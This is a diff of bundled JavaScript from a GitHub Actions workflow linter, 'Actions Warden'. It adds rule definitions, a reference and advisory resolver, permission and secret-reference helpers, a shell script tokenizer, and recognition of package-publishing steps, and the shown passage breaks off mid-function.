@@ -8511,6 +8511,1640 @@ function relativeTo(root, path) {
   return normalized === "" || normalized.startsWith("..") ? path.replace(/\\/g, "/") : normalized;
 }
 
+// server/src/findings.ts
+var SYNTAX_ERROR_RULE = "syntax-error";
+var INTERNAL_ERROR_RULE = "internal-error";
+var UNUSED_IGNORE_RULE = "unused-ignore";
+var CONFIG_ERROR_RULE2 = "config-error";
+var BUILT_IN_RULES = [
+  {
+    id: SYNTAX_ERROR_RULE,
+    title: "File is not valid YAML",
+    severity: "high",
+    confidence: "high",
+    persona: "regular",
+    summary: "The file could not be parsed as YAML, so GitHub will reject it and nothing else in it was checked.",
+    help: "Fix the YAML error at the reported position.",
+    reportedOn: "actions-file",
+    alwaysShown: true,
+    ignorable: false
+  },
+  {
+    id: INTERNAL_ERROR_RULE,
+    title: "Actions Warden failed on this file",
+    severity: "low",
+    confidence: "high",
+    persona: "regular",
+    summary: "A rule failed on this file; please report it with the file attached.",
+    help: "This is a bug in Actions Warden, not in the file.",
+    reportedOn: "actions-file",
+    alwaysShown: true,
+    ignorable: false
+  },
+  {
+    id: UNUSED_IGNORE_RULE,
+    title: "Ignore comment suppresses nothing",
+    severity: "low",
+    confidence: "high",
+    persona: "pedantic",
+    summary: "A `# warden: ignore[...]` or `# zizmor: ignore[...]` comment names a rule that reports nothing on that line.",
+    help: "Remove the stale rule id (or the whole comment), so that a future finding on that line is not hidden.",
+    reportedOn: "actions-file",
+    alwaysShown: false,
+    ignorable: true
+  },
+  {
+    id: CONFIG_ERROR_RULE2,
+    title: "Problem in the configuration file",
+    severity: "medium",
+    confidence: "high",
+    persona: "regular",
+    summary: "A key of the configuration file has a wrong type or value, or is unknown; it was ignored.",
+    help: "See docs/configuration.md for the file format.",
+    reportedOn: "configuration-file",
+    alwaysShown: false,
+    ignorable: false
+  }
+];
+var builtInById = new Map(BUILT_IN_RULES.map((rule) => [rule.id, rule]));
+function builtInRule(id) {
+  return builtInById.get(id);
+}
+function builtIn(id) {
+  const rule = builtInById.get(id);
+  if (!rule) throw new Error(`${id} is not a built-in rule`);
+  return rule;
+}
+
+// server/src/resolve/types.ts
+var ok = (value) => ({ ok: true, value });
+var fail2 = (kind, message, retryAt) => ({
+  ok: false,
+  error: retryAt === void 0 ? { kind, message } : { kind, message, retryAt }
+});
+var FULL_SHA_RE = /^[0-9a-f]{40}$/;
+function repoKey(owner, repo) {
+  return `${owner}/${repo}`.toLowerCase();
+}
+function isValidRepoName(owner, repo) {
+  return /^[A-Za-z0-9](?:[A-Za-z0-9-]{0,38})$/.test(owner) && /^[A-Za-z0-9._-]{1,100}$/.test(repo) && repo !== "." && repo !== "..";
+}
+function findRef(refs, name) {
+  return { tag: refs.tags.find((ref2) => ref2.name === name), branch: refs.branches.find((ref2) => ref2.name === name) };
+}
+
+// server/src/resolve/snapshot.ts
+function advisorySource(resolver) {
+  const candidate = resolver;
+  return typeof candidate.listAdvisories === "function" && "advisoriesUnavailable" in candidate ? candidate : null;
+}
+var attached = new AttachedCache("online-snapshot", attachmentsOf);
+function attachSnapshot(file, snapshot) {
+  attached.set(file, snapshot);
+}
+function snapshotOf(file) {
+  return attached.get(file);
+}
+function emptySnapshot(offline, serverUrl = "https://github.com") {
+  return { offline, serverUrl, repos: /* @__PURE__ */ new Map(), memberships: /* @__PURE__ */ new Map(), shortShas: /* @__PURE__ */ new Map() };
+}
+function resolvableRemote(site) {
+  const reference = site.reference;
+  if (reference.kind !== "remote" || !reference.ref || reference.refKind === "expression") return null;
+  return reference;
+}
+function refsFor(snapshot, uses) {
+  return snapshot?.repos.get(repoKey(uses.owner, uses.repo));
+}
+function advisoriesFor(snapshot, uses) {
+  const result = snapshot?.advisories?.get(repoKey(uses.owner, uses.repo));
+  return result?.ok ? result.value : void 0;
+}
+function membershipFor(snapshot, uses) {
+  return uses.ref ? snapshot?.memberships.get(`${repoKey(uses.owner, uses.repo)}@${uses.ref}`) : void 0;
+}
+async function collectSnapshot(files, resolver, options = {}) {
+  const snapshot = emptySnapshot(options.offline === true, options.serverUrl);
+  if (snapshot.offline) return snapshot;
+  const repos = /* @__PURE__ */ new Map();
+  const shas = /* @__PURE__ */ new Map();
+  const shorts = /* @__PURE__ */ new Map();
+  for (const file of files) {
+    for (const site of file.uses) {
+      const uses = resolvableRemote(site);
+      if (!uses) continue;
+      const key = repoKey(uses.owner, uses.repo);
+      if (!repos.has(key)) repos.set(key, uses);
+      if (uses.refKind === "sha") shas.set(`${key}@${uses.ref}`, uses);
+      if (uses.refKind === "short-sha") shorts.set(`${key}@${uses.ref}`, uses);
+    }
+  }
+  const source = options.advisories === false ? null : advisorySource(resolver);
+  const unavailable2 = source?.advisoriesUnavailable ?? null;
+  if (source && unavailable2) snapshot.advisoriesSkipped = unavailable2;
+  if (source && !unavailable2) snapshot.advisories = /* @__PURE__ */ new Map();
+  await Promise.all(
+    [...repos].map(async ([key, uses]) => {
+      const [refs, advisories] = await Promise.all([
+        resolver.listRefs(uses.owner, uses.repo),
+        snapshot.advisories ? source.listAdvisories(uses.owner, uses.repo) : void 0
+      ]);
+      snapshot.repos.set(key, refs);
+      if (advisories) snapshot.advisories.set(key, advisories);
+    })
+  );
+  const work = [];
+  if (options.memberships !== false) {
+    for (const [key, uses] of shas) {
+      const refs = snapshot.repos.get(repoKey(uses.owner, uses.repo));
+      if (!refs?.ok) continue;
+      work.push(resolver.commitMembership(uses.owner, uses.repo, uses.ref).then((membership) => void snapshot.memberships.set(key, membership)));
+    }
+  }
+  for (const [key, uses] of shorts) {
+    work.push(
+      resolver.resolveRef(uses.owner, uses.repo, uses.ref).then((result) => {
+        snapshot.shortShas.set(key, result.ok ? { ok: true, value: result.value.commit } : result);
+      })
+    );
+  }
+  await Promise.all(work);
+  return snapshot;
+}
+
+// server/src/knowledge/job-facts.ts
+function stepAction(file, step) {
+  let index = stepActionIndex.get(file);
+  if (!index) {
+    index = /* @__PURE__ */ new Map();
+    for (const site of file.uses) {
+      if (!site.step || index.has(site.step) || site.reference.kind !== "remote") continue;
+      const reference = site.reference;
+      const name = (reference.subpath ? `${reference.repository}/${reference.subpath}` : reference.repository).toLowerCase();
+      index.set(site.step, { name, ref: reference.ref, site, reference });
+    }
+    stepActionIndex.set(file, index);
+  }
+  return index.get(step) ?? null;
+}
+var stepActionIndex = new AttachedCache("step-actions", attachmentsOf);
+function stepUses(file, step, ...names) {
+  const action = stepAction(file, step);
+  return action && names.includes(action.name) ? action : null;
+}
+function localActionPath(file, step) {
+  for (const site of file.uses) {
+    if (site.step !== step) continue;
+    if (site.reference.kind === "local" || site.reference.kind === "self") return site.reference.path;
+  }
+  return null;
+}
+function secretReferences(file, span, includeToken = false) {
+  if (!span) return [];
+  const found = [];
+  for (const reference of allSecretReferences(file)) {
+    if (reference.siteStart < span.start || reference.siteEnd > span.end || reference.isToken && !includeToken) continue;
+    found.push({ name: reference.name, span: { start: reference.start, end: reference.end } });
+  }
+  return found;
+}
+function allSecretReferences(file) {
+  const cached = secretReferenceCache.get(file);
+  if (cached) return cached;
+  const found = [];
+  for (const site of file.expressions) {
+    const occurrence = site.occurrence;
+    if (!occurrence.terminated) continue;
+    const ast = absoluteParse(occurrence).ast;
+    if (!ast) continue;
+    const add = (name, start, end, isToken) => found.push({ siteStart: occurrence.start, siteEnd: occurrence.end, name, start, end, isToken });
+    walkExpression(ast, (node) => {
+      if (node.type !== "property" && node.type !== "index" && node.type !== "context") return;
+      const segments = contextPathSegments(node, {});
+      if (!segments || segments[0] !== "secrets") {
+        if (node.type === "index" && contextPathSegments(node.object)?.join(".") === "secrets") {
+          add("*", node.start, node.end, false);
+          return false;
+        }
+        return;
+      }
+      if (segments.length < 2) return;
+      const name = segments[1];
+      add(name, node.start, node.end, name.toUpperCase() === "GITHUB_TOKEN");
+      return false;
+    });
+  }
+  secretReferenceCache.set(file, found);
+  return found;
+}
+var secretReferenceCache = new AttachedCache("secret-references", attachmentsOf);
+function effectivePermissions(workflow, job) {
+  return job.permissions ?? workflow.permissions;
+}
+function permissionLevel(workflow, job, scope) {
+  const entry = effectivePermissions(workflow, job);
+  if (!entry) return "default";
+  const shorthand = scalarText(entry.value);
+  if (shorthand === "write-all") return "write";
+  if (shorthand === "read-all") return scope === "id-token" ? "none" : "read";
+  if (!entry.value || !isMap(entry.value)) return "none";
+  const value = scalarText(new MapView(asMap(entry.value), workflow.doc).get(scope)?.value ?? null);
+  return value === "write" ? "write" : value === "read" ? "read" : "none";
+}
+function hasIdTokenWrite(workflow, job) {
+  return permissionLevel(workflow, job, "id-token") === "write";
+}
+function tokenMayWrite(workflow, job) {
+  const entry = effectivePermissions(workflow, job);
+  if (!entry) return true;
+  const shorthand = scalarText(entry.value);
+  if (shorthand === "write-all") return true;
+  if (shorthand !== null || !entry.value || !isMap(entry.value)) return false;
+  return new MapView(asMap(entry.value), workflow.doc).entries.some((scope) => scalarText(scope.value) === "write");
+}
+var PRIVILEGED_OUTSIDER_TRIGGERS = ["pull_request_target", "workflow_run", "issue_comment", "issues", "discussion", "discussion_comment"];
+function privilegedTriggers(workflow, names = PRIVILEGED_OUTSIDER_TRIGGERS) {
+  return workflow.triggers.map((trigger) => trigger.name).filter((name) => names.includes(name));
+}
+function input(step, name) {
+  return scalarText(step.with.get(name)?.value ?? null);
+}
+function visibleEnv(file, job, step) {
+  const env = /* @__PURE__ */ new Map();
+  const add = (view) => {
+    if (!view) return;
+    for (const entry of view.entries) env.set(entry.key, scalarText(entry.value) ?? "");
+  };
+  add(file.workflow?.env);
+  add(job?.env);
+  add(step?.env);
+  return env;
+}
+function allSteps(file) {
+  const out = [];
+  if (file.workflow) for (const job of file.workflow.jobs) for (const step of job.steps) out.push({ job, step, steps: job.steps });
+  if (file.action) for (const step of file.action.steps) out.push({ job: null, step, steps: file.action.steps });
+  return out;
+}
+function actionMajorVersion(file, action) {
+  const ref2 = action.ref ?? "";
+  const direct = /^v?(\d+)(\.\d+)*$/.exec(ref2);
+  if (direct) return Number(direct[1]);
+  const line = file.lines.lineAt(action.site.entry.valueSpan.start);
+  const comment = /#\s*(?:tag[=:]\s*)?v?(\d+)(?:\.\d+)*\b/.exec(file.lines.lineText(line).slice(action.site.entry.valueSpan.end - file.lines.lineStarts[line]));
+  return comment ? Number(comment[1]) : null;
+}
+
+// server/src/knowledge/shell/command.ts
+var KEYWORDS = /* @__PURE__ */ new Set(["if", "then", "else", "elif", "do", "while", "until", "!", "{", "time", "exec", "command", "builtin", "nohup", "sudo", "doas", "eval"]);
+var SKIP_ARG_WRAPPERS = /* @__PURE__ */ new Set(["env"]);
+function isAssignment(raw) {
+  const first = raw.charCodeAt(0);
+  if (!(first >= 65 && first <= 90 || first >= 97 && first <= 122 || first === 95)) return false;
+  let i = 1;
+  for (; i < raw.length; i++) {
+    const c = raw.charCodeAt(i);
+    if (!(c >= 65 && c <= 90 || c >= 97 && c <= 122 || c >= 48 && c <= 57 || c === 95)) break;
+  }
+  if (raw.charCodeAt(i) === 43) i++;
+  return raw.charCodeAt(i) === 61;
+}
+function buildCommand(words2, redirects, heredocs, start, end, connector, inSubstitution) {
+  let i = 0;
+  const assignments = [];
+  while (i < words2.length) {
+    const word = words2[i];
+    if (isAssignment(word.raw)) {
+      assignments.push(word);
+      i++;
+    } else if (KEYWORDS.has(word.text)) {
+      i++;
+      if (word.text === "sudo" || word.text === "doas") while (i < words2.length && words2[i].text.startsWith("-")) i += words2[i].text === "-u" ? 2 : 1;
+    } else if (SKIP_ARG_WRAPPERS.has(word.text)) {
+      i++;
+      while (i < words2.length && (words2[i].text.startsWith("-") || /^[A-Za-z_][A-Za-z0-9_]*=/.test(words2[i].text))) i++;
+    } else {
+      break;
+    }
+  }
+  const argv = words2.slice(i);
+  const first = argv[0]?.text ?? "";
+  const name = first.replace(/^.*[\\/]/, "").toLowerCase();
+  return {
+    words: words2,
+    argv,
+    name,
+    assignments,
+    redirects,
+    heredocs,
+    span: { start, end },
+    connector,
+    pipeline: 0,
+    pipesTo: false,
+    inSubstitution,
+    line: 0
+    // set by parseShell
+  };
+}
+
+// server/src/knowledge/shell/reader.ts
+var WORD_SPECIAL = new Uint8Array(128);
+for (const c of " 	\n\r;|()&<>$`'\"\\") WORD_SPECIAL[c.charCodeAt(0)] = 1;
+var OPENS_PAREN_WORD = new Uint8Array(128);
+for (const c of "$<>=@?*+!") OPENS_PAREN_WORD[c.charCodeAt(0)] = 1;
+var IN_DOUBLE_QUOTES_SPECIAL = new Uint8Array(128);
+for (const c of '"\\$') IN_DOUBLE_QUOTES_SPECIAL[c.charCodeAt(0)] = 1;
+function parseShell(text) {
+  return shellMemo.get(text);
+}
+var shellMemo = new TextMemo(splitShell);
+function splitShell(text) {
+  const commands = [];
+  new Reader(text, 0, text.length, commands, false).run();
+  commands.sort((a, b) => a.span.start - b.span.start);
+  let pipeline = -1;
+  let line = 0;
+  let counted = 0;
+  for (let i = 0; i < commands.length; i++) {
+    const command = commands[i];
+    if (command.connector !== "|" || i === 0) pipeline++;
+    command.pipeline = pipeline;
+    for (let nl = text.indexOf("\n", counted); nl !== -1 && nl < command.span.start; nl = text.indexOf("\n", nl + 1)) {
+      line++;
+      counted = nl + 1;
+    }
+    command.line = line;
+  }
+  return { text, commands };
+}
+var Reader = class _Reader {
+  constructor(text, from, end, out, inSubstitution, depth = 0) {
+    this.text = text;
+    this.end = end;
+    this.out = out;
+    this.inSubstitution = inSubstitution;
+    this.depth = depth;
+    this.pos = from;
+  }
+  text;
+  end;
+  out;
+  inSubstitution;
+  depth;
+  pos;
+  words = [];
+  redirects = [];
+  heredocs = [];
+  pendingHeredocs = [];
+  connector = "start";
+  start = -1;
+  last = null;
+  run() {
+    const { text, end } = this;
+    while (this.pos < end) {
+      const c = text.charCodeAt(this.pos);
+      const next = text.charCodeAt(this.pos + 1);
+      if (c === 32 || c === 9 || c === 13) {
+        this.pos++;
+      } else if (c === 92 && next === 10) {
+        this.pos += 2;
+      } else if (c === 92 && next === 13 && text.charCodeAt(this.pos + 2) === 10) {
+        this.pos += 3;
+      } else if (c === 10) {
+        this.finish("newline");
+        this.pos++;
+        this.readHeredocBodies();
+      } else if (c === 35) {
+        const lineEnd = text.indexOf("\n", this.pos);
+        this.pos = lineEnd === -1 || lineEnd > end ? end : lineEnd;
+      } else if (c === 59) {
+        this.finish(";");
+        this.pos += next === 59 ? 2 : 1;
+      } else if (c === 38 && next === 38) {
+        this.finish("&&");
+        this.pos += 2;
+      } else if (c === 124 && next === 124) {
+        this.finish("||");
+        this.pos += 2;
+      } else if (c === 124) {
+        this.finish("|", true);
+        this.pos += next === 38 ? 2 : 1;
+      } else if (c === 38 && next !== 62) {
+        this.finish("&");
+        this.pos++;
+      } else if ((c === 40 || c === 41) && !(c === 40 && next === 40)) {
+        this.finish(";");
+        this.pos++;
+      } else if (this.atRedirection()) {
+        this.readRedirection();
+      } else {
+        const word = this.readWord();
+        if (word) {
+          if (this.start < 0) this.start = word.span.start;
+          this.words.push(word);
+        } else {
+          this.pos++;
+        }
+      }
+    }
+    this.finish("newline");
+  }
+  atRedirection() {
+    const first = this.text.charCodeAt(this.pos);
+    if (!(first >= 48 && first <= 57 || first === 60 || first === 62 || first === 38)) return false;
+    const rest = this.text.slice(this.pos, this.pos + 4);
+    return /^(\d*(>>|>&|>\||>|<<<|<<-|<<|<&|<>|<)|&>>|&>)/.test(rest) && !/^<\(|^>\(/.test(rest);
+  }
+  readRedirection() {
+    const match = /^(\d*(>>|>&|>\||>|<<<|<<-|<<|<&|<>|<)|&>>|&>)/.exec(this.text.slice(this.pos, this.pos + 4));
+    const op = match[0];
+    const opStart = this.pos;
+    if (this.start < 0) this.start = opStart;
+    this.pos += op.length;
+    while (this.pos < this.end && (this.text[this.pos] === " " || this.text[this.pos] === "	")) this.pos++;
+    const target = this.readWord();
+    const span = { start: opStart, end: target ? target.span.end : this.pos };
+    if (/<<-?$/.test(op) && !op.endsWith("<<<") && target) {
+      const quoted = target.quoted || target.raw.includes("\\");
+      this.pendingHeredocs.push({ delimiter: target.text, quoted, strip: op.endsWith("-"), command: null });
+    }
+    this.redirects.push({ op, target, span });
+  }
+  /** Reads one word at `pos` (quotes, escapes, expansions included); null when nothing word-like is there. */
+  readWord() {
+    const { text, end } = this;
+    const start = this.pos;
+    let value = "";
+    let quoted = false;
+    while (this.pos < end) {
+      const c = text.charCodeAt(this.pos);
+      const next = text.charCodeAt(this.pos + 1);
+      if (c === 32 || c === 9 || c === 10 || c === 13 || c === 59 || c === 124 || c === 41 || c === 40) {
+        if (c === 40 && this.pos > start && OPENS_PAREN_WORD[text.charCodeAt(this.pos - 1)] === 1) {
+          const close = this.matchParen(this.pos);
+          this.substitution(this.pos + 1, close);
+          value += text.slice(this.pos, Math.min(close + 1, end));
+          this.pos = Math.min(close + 1, end);
+          continue;
+        }
+        if (c === 40 && this.pos === start && next === 40) {
+          const close = this.matchParen(this.pos);
+          value += text.slice(this.pos, Math.min(close + 1, end));
+          this.pos = Math.min(close + 1, end);
+          continue;
+        }
+        break;
+      }
+      if (c === 38) break;
+      if ((c === 60 || c === 62) && next !== 40) break;
+      if (c === 36 && next === 123 && text.charCodeAt(this.pos + 2) === 123) {
+        const close = text.indexOf("}}", this.pos + 3);
+        const stop2 = close < 0 || close >= end ? end : close + 2;
+        value += text.slice(this.pos, stop2);
+        this.pos = stop2;
+      } else if ((c === 36 || c === 60 || c === 62) && next === 40) {
+        const close = this.matchParen(this.pos + 1);
+        this.substitution(this.pos + 2, close);
+        value += text.slice(this.pos, Math.min(close + 1, end));
+        this.pos = Math.min(close + 1, end);
+      } else if (c === 36 && next === 123) {
+        const close = text.indexOf("}", this.pos + 2);
+        const stop2 = close < 0 || close >= end ? end : close + 1;
+        value += text.slice(this.pos, stop2);
+        this.pos = stop2;
+      } else if (c === 96) {
+        let close = this.pos + 1;
+        while (close < end && text.charCodeAt(close) !== 96) close += text.charCodeAt(close) === 92 ? 2 : 1;
+        this.substitution(this.pos + 1, Math.min(close, end));
+        value += text.slice(this.pos, Math.min(close + 1, end));
+        this.pos = Math.min(close + 1, end);
+      } else if (c === 39) {
+        quoted = true;
+        const close = text.indexOf("'", this.pos + 1);
+        const stop2 = close < 0 || close >= end ? end : close;
+        value += text.slice(this.pos + 1, stop2);
+        this.pos = Math.min(stop2 + 1, end);
+      } else if (c === 34) {
+        quoted = true;
+        this.pos++;
+        while (this.pos < end) {
+          const d = text.charCodeAt(this.pos);
+          if (d === 34) break;
+          if (d === 92 && this.pos + 1 < end) {
+            const escaped = text.charCodeAt(this.pos + 1);
+            if (escaped === 10) {
+              this.pos += 2;
+              continue;
+            }
+            value += escaped === 36 || escaped === 96 || escaped === 34 || escaped === 92 ? text[this.pos + 1] : text.slice(this.pos, this.pos + 2);
+            this.pos += 2;
+          } else if (d === 36 && text.charCodeAt(this.pos + 1) === 40) {
+            const close = this.matchParen(this.pos + 1);
+            this.substitution(this.pos + 2, close);
+            value += text.slice(this.pos, Math.min(close + 1, end));
+            this.pos = Math.min(close + 1, end);
+          } else if (d === 36 && text.charCodeAt(this.pos + 1) === 123 && text.charCodeAt(this.pos + 2) === 123) {
+            const close = text.indexOf("}}", this.pos + 3);
+            const stop2 = close < 0 || close >= end ? end : close + 2;
+            value += text.slice(this.pos, stop2);
+            this.pos = stop2;
+          } else {
+            const from = this.pos;
+            this.pos++;
+            while (this.pos < end && IN_DOUBLE_QUOTES_SPECIAL[text.charCodeAt(this.pos)] !== 1) this.pos++;
+            value += text.slice(from, this.pos);
+          }
+        }
+        this.pos = Math.min(this.pos + 1, end);
+      } else if (c === 92) {
+        if (next === 10) {
+          this.pos += 2;
+          break;
+        }
+        value += text[this.pos + 1] ?? "";
+        this.pos += 2;
+      } else {
+        const from = this.pos;
+        this.pos++;
+        while (this.pos < end && WORD_SPECIAL[text.charCodeAt(this.pos)] !== 1) this.pos++;
+        value += text.slice(from, this.pos);
+      }
+    }
+    if (this.pos === start) return null;
+    const stop = Math.min(this.pos, end);
+    return { text: value, raw: text.slice(start, stop), span: { start, end: stop }, quoted };
+  }
+  /** Offset of the `)` matching the `(` at `open` (quotes skipped); `end` when unbalanced. */
+  matchParen(open) {
+    const { text, end } = this;
+    let depth = 0;
+    for (let i = open; i < end; i++) {
+      const c = text[i];
+      if (c === "\\") i++;
+      else if (c === "'") {
+        const close = text.indexOf("'", i + 1);
+        if (close < 0) return end;
+        i = close;
+      } else if (c === "(") depth++;
+      else if (c === ")" && --depth === 0) return i;
+    }
+    return end;
+  }
+  substitution(from, to) {
+    if (this.depth > 16 || to <= from) return;
+    new _Reader(this.text, from, Math.min(to, this.end), this.out, true, this.depth + 1).run();
+  }
+  finish(next, pipesTo = false) {
+    if (this.words.length > 0 || this.redirects.length > 0) {
+      const command = buildCommand(this.words, this.redirects, this.heredocs, this.start, this.lastEnd(), this.connector, this.inSubstitution);
+      command.pipesTo = pipesTo;
+      for (const pending of this.pendingHeredocs) if (!pending.command) pending.command = command;
+      this.out.push(command);
+      this.last = command;
+      this.connector = next;
+    } else if (next === "|" || next === "&&" || next === "||") {
+      this.connector = next;
+    } else if (this.connector === "start" || next !== "newline") {
+      this.connector = this.last ? next : "start";
+    } else {
+      this.connector = "newline";
+    }
+    if (pipesTo) this.connector = "|";
+    this.words = [];
+    this.redirects = [];
+    this.heredocs = [];
+    this.start = -1;
+  }
+  lastEnd() {
+    let end = this.start;
+    for (const word of this.words) end = Math.max(end, word.span.end);
+    for (const redirect of this.redirects) end = Math.max(end, redirect.span.end);
+    return end;
+  }
+  /** After a newline: skips (and records) the bodies of the heredocs opened on the line just ended. */
+  readHeredocBodies() {
+    const pending = this.pendingHeredocs;
+    this.pendingHeredocs = [];
+    for (const heredoc of pending) {
+      const bodyStart = this.pos;
+      let bodyEnd = this.end;
+      let after = this.end;
+      while (this.pos < this.end) {
+        let lineEnd = this.text.indexOf("\n", this.pos);
+        if (lineEnd < 0 || lineEnd > this.end) lineEnd = this.end;
+        let line = this.text.slice(this.pos, lineEnd).replace(/\r$/, "");
+        if (heredoc.strip) line = line.replace(/^\t+/, "");
+        if (line.trim() === heredoc.delimiter) {
+          bodyEnd = this.pos;
+          after = Math.min(lineEnd + 1, this.end);
+          break;
+        }
+        this.pos = lineEnd + 1;
+      }
+      this.pos = Math.min(after, this.end);
+      const record = { delimiter: heredoc.delimiter, quoted: heredoc.quoted, body: this.text.slice(bodyStart, bodyEnd), bodySpan: { start: bodyStart, end: bodyEnd } };
+      heredoc.command?.heredocs.push(record);
+    }
+  }
+};
+
+// server/src/knowledge/shell/arguments.ts
+function args(command) {
+  return command.argv.slice(1);
+}
+function flagValue(command, ...flags) {
+  const list = args(command);
+  for (let i = 0; i < list.length; i++) {
+    const text = list[i].text;
+    if (flags.includes(text)) return list[i + 1] ?? null;
+    for (const flag of flags) {
+      if (flag.startsWith("--") && text.startsWith(`${flag}=`)) {
+        const word = list[i];
+        const cut = flag.length + 1;
+        return { text: text.slice(cut), raw: word.raw, span: { start: word.span.start + Math.min(cut, word.raw.length), end: word.span.end }, quoted: word.quoted };
+      }
+    }
+  }
+  return null;
+}
+function pipedInto(script, command) {
+  if (!command.pipesTo) return null;
+  const index = script.commands.indexOf(command);
+  for (let i = index + 1; i < script.commands.length; i++) {
+    const next = script.commands[i];
+    if (next.inSubstitution !== command.inSubstitution) continue;
+    return next.pipeline === command.pipeline ? next : null;
+  }
+  return null;
+}
+
+// server/src/knowledge/shell/run-scripts.ts
+function scalarOffsetMapper(node, source) {
+  const span = nodeSpan(node);
+  if (!node || !span || !isScalar(node)) return () => span?.start ?? 0;
+  const scalar = node;
+  const value = typeof scalar.value === "string" ? scalar.value : null;
+  const clampToken = (offset) => Math.max(span.start, Math.min(offset, span.end));
+  if (value === null) return () => span.start;
+  if (scalar.type === "BLOCK_LITERAL") {
+    const header = source.indexOf("\n", span.start);
+    if (header < 0) return () => span.start;
+    const lineStarts = [];
+    const valueLines = value.split("\n");
+    let cursor = header + 1;
+    let indent = -1;
+    for (let k = 0; k < valueLines.length; k++) {
+      if (cursor > source.length) break;
+      let lineEnd = source.indexOf("\n", cursor);
+      if (lineEnd < 0) lineEnd = source.length;
+      const line = source.slice(cursor, lineEnd).replace(/\r$/, "");
+      if (indent < 0 && valueLines[k].length > 0) {
+        indent = line.length - valueLines[k].length;
+        if (indent < 0 || line.slice(indent) !== valueLines[k]) return clampToken;
+      }
+      lineStarts.push(cursor);
+      cursor = lineEnd + 1;
+    }
+    const firstIndent = Math.max(indent, 0);
+    const valueIndex = new LineIndex(value);
+    return (offset) => {
+      const line = valueIndex.lineAt(offset);
+      const lineStart = lineStarts[line];
+      if (lineStart === void 0) return span.end;
+      return Math.min(lineStart + firstIndent + (offset - valueIndex.lineStarts[line]), source.length);
+    };
+  }
+  const quoted = scalar.type === "QUOTE_DOUBLE" || scalar.type === "QUOTE_SINGLE";
+  const start = quoted ? span.start + 1 : span.start;
+  if (source.startsWith(value, start)) return (offset) => start + offset;
+  return clampToken;
+}
+function shellOf(step, job, file) {
+  const own = step.shell?.value;
+  if (own) return own;
+  const jobShell = job?.child("defaults").child("run").string("shell")?.value;
+  if (jobShell) return jobShell;
+  return file.workflow?.child("defaults").child("run").string("shell")?.value ?? "";
+}
+var cache = new AttachedCache("run-scripts", attachmentsOf);
+function runScripts(file) {
+  const cached = cache.get(file);
+  if (cached) return cached;
+  const scripts = [];
+  const add = (step, job) => {
+    const entry = step.run;
+    if (!entry || !entry.value || !isScalar(entry.value)) return;
+    const value = entry.value.value;
+    if (typeof value !== "string") return;
+    const scalar = entry.value;
+    let mapper;
+    const map2 = (offset) => (mapper ??= scalarOffsetMapper(scalar, file.text))(offset);
+    scripts.push({
+      entry,
+      step,
+      job,
+      script: parseShell(value),
+      shell: shellOf(step, job, file),
+      toSource: map2,
+      sourceSpan: (span) => {
+        const start = map2(span.start);
+        const end = map2(span.end);
+        return { start, end: Math.max(start, end) };
+      }
+    });
+  };
+  try {
+    if (file.workflow) for (const job of file.workflow.jobs) for (const step of job.steps) add(step, job);
+    if (file.action) for (const step of file.action.steps) add(step, null);
+  } catch {
+  }
+  cache.set(file, scripts);
+  return scripts;
+}
+var byJobCache = new AttachedCache("run-scripts-by-job", attachmentsOf);
+function runScriptsOf(file, job) {
+  let byJob = byJobCache.get(file);
+  if (!byJob) {
+    byJob = /* @__PURE__ */ new Map();
+    for (const script of runScripts(file)) {
+      const list = byJob.get(script.job);
+      if (list) list.push(script);
+      else byJob.set(script.job, [script]);
+    }
+    byJobCache.set(file, byJob);
+  }
+  return byJob.get(job)?.slice() ?? [];
+}
+
+// server/src/knowledge/publishers.ts
+var PUBLISHER_ACTIONS = [
+  { name: "pypa/gh-action-pypi-publish", registry: "pypi" },
+  { name: "js-devtools/npm-publish", registry: "npm" },
+  { name: "rubygems/release-gem", registry: "rubygems" },
+  { name: "rubygems/configure-rubygems-credentials", registry: "rubygems" },
+  { name: "katyo/publish-crates", registry: "crates.io" },
+  { name: "rust-lang/crates-io-auth-action", registry: "crates.io" },
+  { name: "goreleaser/goreleaser-action", registry: "github-release" },
+  { name: "softprops/action-gh-release", registry: "github-release" },
+  { name: "ncipollo/release-action", registry: "github-release" },
+  { name: "svenstaro/upload-release-action", registry: "github-release" },
+  { name: "docker/build-push-action", registry: "container", when: "push" },
+  { name: "changesets/action", registry: "npm", when: "publish" },
+  { name: "actions/attest-build-provenance", registry: "other" },
+  { name: "actions/attest", registry: "other" },
+  { name: "sigstore/gh-action-sigstore-python", registry: "other" },
+  { name: "actions/deploy-pages", registry: "pages" },
+  { name: "peaceiris/actions-gh-pages", registry: "pages" },
+  { name: "jamesives/github-pages-deploy-action", registry: "pages" }
+];
+var byName = new Map(PUBLISHER_ACTIONS.map((action) => [action.name, action]));
+function publisherAction(name) {
+  return byName.get(name.toLowerCase());
+}
+var PYTHON_LAUNCHERS = /* @__PURE__ */ new Set(["python", "python3", "py", "uvx", "pipx", "uv", "poetry", "pdm", "hatch"]);
+var recognised = new AttachedCache("publish-command");
+function publishCommand(command) {
+  let known = recognised.get(command);
+  if (known === void 0) recognised.set(command, known = recognisePublishCommand(command));
+  return known;
+}
+var FIRST_WORDS = /* @__PURE__ */ new Set([
+  ...PYTHON_LAUNCHERS,
+  "npx",
+  "bunx",
+  "cargo",
+  "twine",
+  "flit",
+  "maturin",
+  "gem",
+  "npm",
+  "pnpm",
+  "bun",
+  "yarn",
+  "lerna",
+  "changeset",
+  "nuget",
+  "nuget.exe",
+  "dotnet",
+  "mvn",
+  "mvnw",
+  "gradle",
+  "gradlew",
+  "docker",
+  "podman",
+  "gh",
+  "goreleaser",
+  "vsce",
+  "ovsx"
+]);
+function recognisePublishCommand(command) {
+  if (!FIRST_WORDS.has(command.name) && !command.name.startsWith("python")) return null;
+  let words2 = command.argv.map((word) => word.text);
+  for (let guard = 0; guard < 3 && words2.length > 1; guard++) {
+    const head = words2[0].replace(/^.*[\\/]/, "").toLowerCase();
+    if ((head.startsWith("python") || head === "py") && words2[1] === "-m") words2 = words2.slice(2);
+    else if (PYTHON_LAUNCHERS.has(head) && words2[1] === "run" && words2[2] && !words2[2].startsWith("-")) words2 = words2.slice(2);
+    else if ((head === "uvx" || head === "pipx" || head === "npx" || head === "bunx") && words2[1]) words2 = words2.slice(1).filter((w2, i) => i > 0 || !w2.startsWith("-"));
+    else break;
+  }
+  if (words2.length === 0 || words2.includes("--dry-run") || words2.includes("-n") && words2[0] === "cargo") return null;
+  const name = words2[0].replace(/^.*[\\/]/, "").toLowerCase();
+  const sub = (words2[1] ?? "").toLowerCase();
+  const sub2 = (words2[2] ?? "").toLowerCase();
+  switch (name) {
+    case "cargo":
